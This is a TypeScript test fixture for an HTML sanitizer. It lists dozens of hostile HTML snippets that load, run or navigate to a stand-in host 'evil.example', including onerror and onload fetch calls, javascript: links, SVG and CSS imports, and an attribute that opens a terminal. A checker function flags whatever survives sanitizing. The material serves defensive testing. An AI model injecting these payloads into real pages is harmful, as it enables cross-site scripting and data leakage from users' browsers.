/** Texts of strangers that would load, run or start something where they are drawn as HTML. */
export const EVIL = 'http://evil.example/x';

/** Every way known to us in which HTML loads, runs, navigates, or starts a command. */
export const HOSTILE: readonly string[] = [
  `<img src="${EVIL}">`,
  `<img src="//evil.example/x">`,
  `<img src="/\\evil.example/x">`,
  `<img srcset="${EVIL} 2x">`,
  `<img src="x" onerror="fetch('${EVIL}')">`,
  `<picture><source srcset="${EVIL}"></picture>`,
  `<p style="background:url(${EVIL})">x</p>`,
  `<p style="background:u\\72l(${EVIL})">x</p>`,
  `<p style="background:image-set('${EVIL}' 1x)">x</p>`,
  `<table background="${EVIL}"><tr><td>x</td></tr></table>`,
  `<style>@import url(${EVIL})</style>`,
  `<link rel="stylesheet" href="${EVIL}">`,
  `<link rel="dns-prefetch" href="${EVIL}">`,
  `<link rel="preconnect" href="${EVIL}">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  `<base href="${EVIL}">`,
  `<script src="${EVIL}"></script>`,
  `<script>fetch('${EVIL}')</script>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>fetch('${EVIL}')</script>"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<video poster="${EVIL}" src="${EVIL}"></video>`,
  `<audio src="${EVIL}"></audio>`,
  `<input type="image" src="${EVIL}">`,
  `<form action="${EVIL}"><button>x</button></form>`,
  `<button formaction="${EVIL}">x</button>`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<svg><image xlink:href="${EVIL}"/></svg>`,
  `<svg><use href="${EVIL}#a"/></svg>`,
  `<svg><rect fill="url(${EVIL}#a)"/></svg>`,
  `<svg><feImage href="${EVIL}"/></svg>`,
  `<svg onload="fetch('${EVIL}')"></svg>`,
  `<svg><set attributeName="href" to="${EVIL}"/></svg>`,
  `<svg><foreignObject><img src="${EVIL}"></foreignObject></svg>`,
  `<math><mtext><img src="${EVIL}"></mtext></math>`,
  `<a href="javascript:fetch('${EVIL}')">x</a>`,
  `<a href=" java\tscript:fetch('${EVIL}')">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="/lab/api/x">x</a>`,
  `<a href="#" ping="${EVIL}">x</a>`,
  `<a href="#" data-commandlinker-command="terminal:create-new">x</a>`,
  `<details ontoggle="fetch('${EVIL}')" open>x</details>`,
  `<body onload="fetch('${EVIL}')">`
];

/** Attributes that are shown or read aloud, and no more. */
const TEXT = /^(title|aria-label|alt|placeholder|value)$/;

/** Return what is left in HTML that would act without a click on a link with a web address. */
export function acting(html: string): string[] {
  const template = document.createElement('template');
  template.innerHTML = html;
  const found: string[] = [];
  for (const element of template.content.querySelectorAll('*')) {
    if (/^(script|style|link|meta|base|iframe|object|embed|source)$/i.test(element.localName)) {
      found.push(element.localName);
    }
    for (const { name, value } of element.attributes) {
      const isLink = element.localName === 'a' && name === 'href' && /^(https?:|#)/.test(value);
      if (!isLink && !TEXT.test(name) && /evil|javascript|vbscript|\/lab/.test(value)) {
        found.push(`${name}=${value}`);
      }
      if (/^on|commandlinker/.test(name)) {
        found.push(name);
      }
    }
  }
  return found;
}
